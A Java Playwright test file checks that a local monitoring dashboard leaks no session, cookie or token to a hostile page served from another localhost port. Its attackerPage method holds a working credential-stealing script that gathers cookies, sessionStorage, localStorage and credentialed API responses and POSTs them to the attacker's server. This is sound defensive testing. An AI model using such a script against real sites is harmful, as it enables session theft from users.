package dev.solo.monitor.dashboard;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;

import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Page;
import com.sun.net.httpserver.HttpServer;
import dev.solo.testing.Prerequisite;
import dev.solo.testing.Requires;
import dev.solo.testing.TestEnvironment;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import org.assertj.core.api.Assertions;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/**
 * What another web server on localhost learns when the user's browser, logged in to the dashboard,
 * visits it: cookies are shared by every port of a host, so a cookie would reach it; the dashboard uses
 * none. The attacker's page also tries to read the dashboard's storage and to call the monitor's API.
 */
@Timeout(120)
@Requires(Prerequisite.CHROMIUM)
class DashboardCredentialsTest {
    @RegisterExtension
    static final ChromiumExtension browser = new ChromiumExtension();

    @TempDir
    Path home;

    Monitor monitor;
    BrowserContext context;
    HttpServer attacker;
    /** Everything the attacker's server received: request lines, headers, bodies. */
    final List<String> received = new CopyOnWriteArrayList<>();

    @BeforeEach
    void start() throws IOException {
        monitor = new Monitor(home);
        monitor.post(
                "{\"session_id\":\"s1\",\"hook_event_name\":\"UserPromptSubmit\",\"prompt\":\"private-prompt-77\"}");
        attacker = HttpServer.create(new InetSocketAddress(InetAddress.getByName("127.0.0.1"), 0), 0);
        attacker.createContext("/", x -> {
            StringBuilder r = new StringBuilder(x.getRequestMethod() + " " + x.getRequestURI() + "\n");
            x.getRequestHeaders()
                    .forEach((k, v) ->
                            r.append(k).append(": ").append(String.join(",", v)).append('\n'));
            r.append(new String(x.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
            received.add(r.toString());
            byte[] page = attackerPage(monitor.port()).getBytes(StandardCharsets.UTF_8);
            x.getResponseHeaders().put("Content-Type", List.of("text/html; charset=utf-8"));
            x.sendResponseHeaders(200, page.length);
            x.getResponseBody().write(page);
            x.close();
        });
        attacker.start();
        context = browser.newContext();
    }

    @AfterEach
    void stop() {
        if (context != null) context.close();
        if (attacker != null) attacker.stop(0);
        if (monitor != null) monitor.close();
    }

    /** A page that gathers what it can of the dashboard's credentials and sends it home. */
    static String attackerPage(int monitorPort) {
        String api = "http://localhost:" + monitorPort + "/api/";
        return """
                <!doctype html><title>not the monitor</title><script>
                (async () => {
                  const loot = { cookie: document.cookie, session: sessionStorage.getItem('solo.session'),
                                 local: JSON.stringify(localStorage) };
                  for (const path of ['events', 'status']) {
                    try {
                      const r = await fetch('%s' + path, { credentials: 'include' });
                      loot[path] = r.status + ' ' + await r.text();
                    } catch (e) { loot[path] = 'failed: ' + e; }
                  }
                  await fetch('/report', { method: 'POST', body: JSON.stringify(loot) });
                  document.title = 'done';
                })();
                </script>""".formatted(api);
    }

    @Test
    void aLoggedInBrowserHandsNoCredentialToAnotherLocalhostPort() {
        Page page = context.newPage();
        page.navigate(monitor.link().replace("127.0.0.1", "localhost"));
        assertThat(page.locator("#conn")).hasAttribute("data-state", "live");
        assertThat(page.locator("#events .row")).hasCount(1);
        // the code left the address bar; the session lives in this tab's sessionStorage, no cookie anywhere
        Assertions.assertThat(page.url()).doesNotContain("login");
        String session = (String) page.evaluate("sessionStorage.getItem('solo.session')");
        Assertions.assertThat(session).matches("[A-Za-z0-9_-]{43}");
        Assertions.assertThat(context.cookies()).isEmpty();
        Assertions.assertThat((String) page.evaluate("JSON.stringify(localStorage)"))
                .doesNotContain(session)
                .doesNotContain(monitor.token);

        String evil = "http://localhost:" + attacker.getAddress().getPort() + "/";
        page.navigate(evil); // the same tab
        assertThat(page).hasTitle("done");
        Page other = context.newPage(); // and a new one
        other.navigate(evil);
        assertThat(other).hasTitle("done");

        Awaitility.await()
                .atMost(Duration.ofSeconds(10))
                .until(() -> received.stream()
                                .filter(r -> r.startsWith("POST /report"))
                                .count()
                        == 2);
        Assertions.assertThat(received).hasSizeGreaterThanOrEqualTo(4); // two pages, two reports (and icons)
        for (String r : received) {
            Assertions.assertThat(r)
                    .doesNotContainIgnoringCase("cookie:")
                    .doesNotContainIgnoringCase("authorization:")
                    .doesNotContain(session)
                    .doesNotContain(monitor.token)
                    .doesNotContain("private-prompt-77");
        }
        Assertions.assertThat(received.stream().filter(r -> r.startsWith("POST /report")))
                .hasSize(2)
                .allSatisfy(r -> Assertions.assertThat(r)
                        .contains("\"cookie\":\"\"")
                        .contains("\"session\":null")
                        .contains("\"events\":\"failed: TypeError")
                        .contains("\"status\":\"failed: TypeError"));
        // the dashboard tab itself still works
        Page back = context.newPage();
        back.navigate(monitor.link());
        assertThat(back.locator("#events .row")).hasCount(1);
        Assertions.assertThat(Map.of("cookies", context.cookies())).containsEntry("cookies", List.of());
    }

    @Test
    void aUsedLoginLinkGetsNoAccessAndThePageSaysWhyAndWhatToRun() throws IOException {
        String link = monitor.link();
        Page first = context.newPage();
        first.navigate(link);
        assertThat(first.locator("#events .row")).hasCount(1);
        try (BrowserContext elsewhere = browser.browser().newContext()) {
            Page second = elsewhere.newPage();
            second.navigate(link); // the same link again, in another browser profile
            assertThat(second.locator("#conn")).hasAttribute("data-state", "unauthorized");
            assertThat(second.locator("#unauthorized")).isVisible();
            assertThat(second.locator("#unauthorized")).containsText("solo monitor open");
            assertThat(second.locator("#unauthorized-why")).containsText("was used already or expired");
            Assertions.assertThat(second.locator("#events .row").count()).isZero();
            Path shots = java.nio.file.Files.createDirectories(
                    TestEnvironment.targetDir().resolve("screenshots"));
            second.screenshot(new Page.ScreenshotOptions().setPath(shots.resolve("no-access.png")));
        }
    }
}
